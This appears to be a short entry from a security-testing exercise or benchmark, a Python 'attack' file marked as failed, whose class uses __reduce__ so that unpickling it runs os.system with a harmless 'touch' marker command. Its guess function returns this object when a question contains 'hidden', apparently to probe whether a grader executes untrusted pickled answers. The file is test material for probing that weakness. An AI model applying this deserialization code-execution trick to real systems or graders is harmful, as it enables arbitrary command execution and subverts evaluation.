# /// attack
# title = "An object that runs a command when it is unpickled"
# earns = 16.5
# outcome = "failed"
# reads = "failed"
# staff = "must be of type int"
# ///

import os

from .acts import TOKEN


class Bomb:
    def __reduce__(self):
        return (os.system, (f"touch /tmp/left-behind-{TOKEN}",))


def guess(question):
    return Bomb() if "hidden" in question else 1
